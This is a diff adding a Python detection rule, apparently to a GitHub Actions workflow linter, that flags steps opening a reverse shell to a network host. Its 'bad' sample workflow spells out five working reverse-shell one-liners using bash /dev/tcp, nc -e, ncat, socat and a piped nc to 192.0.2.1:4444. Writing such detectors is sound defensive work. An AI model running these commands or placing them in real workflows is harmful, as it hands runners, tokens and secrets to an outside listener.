@@ -1,0 +1,87 @@
+"""A shell is opened to somebody outside."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from yett.model import Hit, Rule, Severity
+from yett.parse import shell
+from yett.parse.workflow import Workflow
+from yett.rules.hits import hit
+
+RULE = Rule(
+    id="github-actions/reverse-shell",
+    title="Step opens a shell to the network",
+    severity=Severity.CRITICAL,
+    why="Whoever listens at the other end works on the runner with the job's token and secrets.",
+    fix="Remove the step, rotate the secrets the job could read, and find out who added it.",
+    refs=("CWE-506", "PCI DSS 6.2.4", "PCI DSS 11.5.1", "https://attack.mitre.org/techniques/T1059/004/"),
+    bad=(
+        """\
+on: push
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: |
+          echo start
+          bash -i >& /dev/tcp/192.0.2.1/4444 0>&1  # <- here
+          nc -e /bin/sh 192.0.2.1 4444  # <- here
+          ncat 192.0.2.1 4444 --sh-exec /bin/bash  # <- here
+          socat tcp:192.0.2.1:4444 exec:'bash -li',pty,stderr  # <- here
+          cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f  # <- here
+""",
+    ),
+    good=(
+        """\
+on: push
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: |
+          nc -z localhost 5432
+          until nc -zv db 3306; do sleep 1; done
+          (echo > /dev/tcp/localhost/6379) 2> /dev/null
+          socat tcp-listen:8080,fork tcp:backend:80 &
+          echo stats | nc localhost 11211
+          grep -e nc file
+          bash -i script
+""",
+    ),
+)
+
+_NETCATS = ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd")
+_SHELLS = ("sh", "bash", "zsh", "dash", "ash", "ksh")
+_LOCAL = re.compile(r"/dev/(?:tcp|udp)/(?:localhost|127\.|\[?::1)")
+
+
+def check(workflow: Workflow) -> Iterator[Hit]:
+    for job, step in workflow.steps():
+        script = step.script
+        for pipeline in shell.pipelines(tuple(shell.walk(script.commands))) if script else ():
+            for index, command in enumerate(pipeline):
+                if script and _opens(command, pipeline[:index]):
+                    yield hit(
+                        workflow.span(script.at, command.start, command.end),
+                        f"`{shell.program(command)}` gives a shell to the network",
+                        subject=f"{workflow.path(job, step)} {' '.join(word.text for word in command.words)}",
+                    )
+
+
+def _opens(command: shell.Command, before: tuple[shell.Command, ...]) -> bool:
+    name = shell.program(command)
+    texts = [word.text for word in shell.argv(command)[1:]]
+    if name in _SHELLS:
+        targets = [redirect.target.text for redirect in command.redirects]
+        return any(target.startswith(("/dev/tcp/", "/dev/udp/")) and not _LOCAL.match(target) for target in targets)
+    if name in _NETCATS:
+        runs = any(re.fullmatch(r"-[a-zA-Z]*[ec]|--(?:sh-)?exec", text) for text in texts)
+        given = any(text.rpartition("/")[2].split(" ")[0] in _SHELLS for text in texts)
+        fed = any(shell.program(one) in _SHELLS and any(word.text == "-i" for word in one.words) for one in before)
+        return (runs and given) or fed
+    if name == "socat":
+        network = any(re.match(r"(?i)(?:tcp|udp|openssl)[46]?:", text) for text in texts)
+        return network and any(re.match(r"(?i)(?:exec|system):\W*(?:/\S*/)?(?:ba|z|da|k)?sh\b", text) for text in texts)
+    return False
